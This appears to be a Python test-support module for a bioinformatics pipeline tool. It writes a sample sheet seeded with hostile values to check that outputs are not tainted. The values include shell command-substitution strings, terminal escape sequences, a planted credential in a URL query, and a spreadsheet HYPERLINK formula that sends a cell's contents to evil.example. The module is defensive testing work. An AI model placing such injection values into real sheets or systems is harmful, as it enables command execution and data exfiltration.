"""Hostile text, a sheet that has it, and what an attack may not change."""

import csv
import gzip
import hashlib
import re
from collections.abc import Iterator, Sequence
from itertools import cycle
from pathlib import Path

from support.fastq import make_reads, to_fastq

SECRET = "planted-secret"
QUERY = f"?X-Amz-Credential=me&X-Amz-Signature={SECRET}"
SHELL = "$(touch owned)`touch owned`|touch owned&touch owned>owned"
# A title, a cleared screen, C1's CSI; a mark that turns text around.
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x9b2J\u202e"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
READS = gzip.compress(to_fastq(make_reads(200, lengths=(60, 60))), mtime=0)
EXTRACT = "extract --only *.gff.gz --to results/some"
COMMANDS = ("check", "report", "status", "status --json", "citations", "verify", EXTRACT)


def read_tree(root: Path) -> dict[str, str]:
    """Return a checksum of every file but those in the folders that a run writes to."""
    written = {"results", "scratch", ".snakemake", "recorded", "__pycache__"}
    return {
        str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in root.rglob("*")
        if path.is_file() and not written & set(path.relative_to(root).parts)
    }


def write_sheet(project: Path, rows: Sequence[dict[str, str]]) -> None:
    """Write the sheet, with a column of the user's own that is hostile too."""
    columns = [*dict.fromkeys(name for row in rows for name in row), "note"]
    with (project / "config/samples.tsv").open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, columns, delimiter="\t", restval="")
        writer.writeheader()
        for row, note in zip(rows, cycle((FORMULA, f"{TERMINAL}{SHELL}")), strict=False):
            writer.writerow(row | {"note": note})


def iter_cells(results: Path) -> Iterator[str]:
    """Yield the cells of all tables."""
    for path in results.glob("*.tsv"):
        with path.open(newline="", encoding="utf-8") as file:
            for row in csv.reader(file, dialect="excel-tab"):
                yield from row
